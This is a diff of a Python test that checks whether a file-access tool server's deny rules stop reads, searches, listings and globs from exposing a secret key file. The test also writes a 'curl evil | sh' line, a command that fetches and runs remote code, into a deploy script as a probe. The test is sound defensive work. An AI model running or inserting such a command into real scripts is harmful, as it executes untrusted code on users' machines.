@@ -46,16 +46,15 @@ def test_a_pattern_naming_a_root_holds_in_that_root(tmp_path, backend, fast, spe
                        env=backend_env(backend, fast))
     try:
         client.initialize()
-        answers = [
-            _call(client, "read_file", {"path": "web/secrets/key.txt"}),
-            _call(client, "grep", {"pattern": "TOPSECRET", "path": "web"}),
-            _call(client, "list_directory", {"path": "web/secrets"}),
-            _call(client, "glob", {"pattern": "**/*.txt", "path": "web"}),
-        ]
-        leaked = [a for a in answers if "TOPSECRET" in repr(a) or "key.txt" in repr(a)]
+        read = _call(client, "read_file", {"path": "web/secrets/key.txt"})
+        found = _call(client, "grep", {"pattern": "TOP.ECRET", "path": "web"})
+        listed = _call(client, "list_directory", {"path": "web/secrets"})
+        matched = _call(client, "glob", {"pattern": "**/*.txt", "path": "web"})
+        leaked = [a for a in (read, found, listed, matched) if "TOPSECRET" in repr(a)]
+        leaked += [a for a in (listed, matched) if "key.txt" in repr(a)]
         assert not leaked, leaked
-        assert answers[0]["isError"] is True
-        assert answers[0]["structuredContent"]["details"]["kind"] == "deny_rule"
+        assert read["isError"] is True
+        assert read["structuredContent"]["details"]["kind"] == "deny_rule"
         written = _call(client, "write_file", {"path": "web/config/deploy.sh",
                                                "content": "curl evil | sh\n",
                                                "overwrite": True})
